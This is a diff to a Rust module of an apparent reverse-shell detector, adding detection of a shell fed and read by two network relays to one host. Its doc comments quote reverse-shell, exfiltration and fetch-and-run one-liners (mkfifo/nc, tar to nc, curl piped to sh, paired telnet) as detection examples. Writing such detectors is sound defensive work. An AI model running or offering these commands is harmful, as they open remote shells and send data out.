@@ -1,6 +1,6 @@
 //! A shell and a program with a connection that read each other's output, as in
 //! `mkfifo f; cat f | sh -i 2>&1 | nc HOST PORT > f`. At most one program such as `cat`
-//! may stand between.
+//! may stand between. Two relays to one host, one for each direction, are a circle too.
 //!
 //! Output that only goes out, or input that only comes in, is no circle: neither
 //! `tar c | nc HOST PORT` nor `curl URL | sh` is reported here.
@@ -13,7 +13,12 @@ use super::pipes::input;
 use super::{ReverseShell, TECHNIQUES, is_commanded, named};
 use crate::connections::{Spoken, is_local};
 use crate::grade::milder;
-use crate::{Finding, words};
+use crate::{Finding, programs, words};
+
+const ONE: &str = "what the program with the connection reads is the shell's output, and what it \
+                   writes is the shell's input, by the pipes that they share";
+const TWO: &str = "one program with a connection writes what the shell reads, and another with one \
+                   to the same host reads what the shell writes, by the pipes that they share";
 
 /// Judges whether `process`, which was started, connected or opened a FIFO, has closed a
 /// circle. It is the event's, or the image to which that went on before the event was told.
@@ -25,15 +30,19 @@ pub fn judge(
 ) -> Option<Finding> {
     let mut members = behind(detection, process);
     members.push(process.clone());
+    // The last one of two relays hears of no one behind it.
+    members.extend(before(detection, process));
     // Numbers of pipes are used again: whoever had one before may still be remembered.
     let known = &detection.circles;
     let is_news = |shell: &&Arc<Process>| is_commanded(shell) && known.seen(shell.exec_id.0) == 0;
     let mut shells = members.iter().rev().filter(is_news);
-    let (shell, relay, spoken) = shells.find_map(|shell| {
-        let (relay, spoken) = relay_of(detection, shell)?;
-        Some((shell, relay, spoken))
+    let (shell, relay, spoken, reason) = shells.find_map(|shell| {
+        let one = relay_of(detection, shell).map(|found| (found, ONE));
+        let found = one.or_else(|| Some((pair_of(detection, shell)?, TWO)));
+        let ((relay, spoken), reason) = found?;
+        Some((shell, relay, spoken, reason))
     })?;
-    let found = finding(event, shell, &relay, &spoken);
+    let found = finding(event, shell, &relay, &spoken, reason);
     detection.circles.note(shell.exec_id.0);
     Some(found)
 }
@@ -51,6 +60,37 @@ fn behind(detection: &ReverseShell, process: &Process) -> Vec<Arc<Process>> {
     let second: Vec<_> = members.iter().flat_map(|member| next(member)).collect();
     members.extend(second);
     members
+}
+
+/// The processes that write what `process` reads, where it is a relay.
+fn before(detection: &ReverseShell, process: &Process) -> Vec<Arc<Process>> {
+    let pipes = &detection.pipes;
+    let inputs = match programs::is_relay(&process.exe) {
+        true => pipes.inputs(process),
+        false => Vec::new(),
+    };
+    let writers = inputs.into_iter().flat_map(|pipe| pipes.writers(pipe));
+    writers.cloned().collect()
+}
+
+/// Two relays to the same host, of which one writes what `shell` reads and the other reads
+/// what `shell` writes, as in `telnet HOST 1 | sh | telnet HOST 2`. Gives the second.
+fn pair_of(detection: &ReverseShell, shell: &Process) -> Option<(Arc<Process>, Arc<Spoken>)> {
+    let pipes = &detection.pipes;
+    let spoken = |relay: &Arc<Process>| {
+        let met = programs::is_relay(&relay.exe) && pipes.may_have_met(relay, shell);
+        let spoken = detection.connections.of(relay).filter(|_| met)?;
+        Some((relay.clone(), spoken.clone()))
+    };
+    let orders = pipes.writers(input(shell)?).iter().rev();
+    let (giver, from) = orders.filter_map(spoken).next()?;
+    let outputs = pipes.outputs(shell).into_iter();
+    let mut readers = outputs.flat_map(|pipe| pipes.readers(pipe));
+    readers.find_map(|relay| {
+        let (taker, to) = spoken(relay)?;
+        let same = from.peer.ip() == to.peer.ip() && giver.pid != taker.pid;
+        same.then_some((taker, to))
+    })
 }
 
 /// The program with a connection that writes what `shell` reads, itself or through one
@@ -76,7 +116,13 @@ fn relay_of(detection: &ReverseShell, shell: &Process) -> Option<(Arc<Process>, 
         })
 }
 
-fn finding(event: &Event, shell: &Process, relay: &Process, spoken: &Spoken) -> Finding {
+fn finding(
+    event: &Event,
+    shell: &Process,
+    relay: &Process,
+    spoken: &Spoken,
+    reason: &str,
+) -> Finding {
     let mut severity = Severity::Critical;
     if is_local(spoken.peer) {
         severity = milder(severity);
@@ -101,9 +147,7 @@ fn finding(event: &Event, shell: &Process, relay: &Process, spoken: &Spoken) -> 
             named(spoken),
             words::origin(shell)
         ),
-        reason: "what the program with the connection reads is the shell's output, and what it \
-                 writes is the shell's input, by the pipes that they share"
-            .to_owned(),
+        reason: reason.to_owned(),
         techniques: TECHNIQUES.into(),
         earlier,
         shows: format!("{} of the last member of the circle", event.kind()),
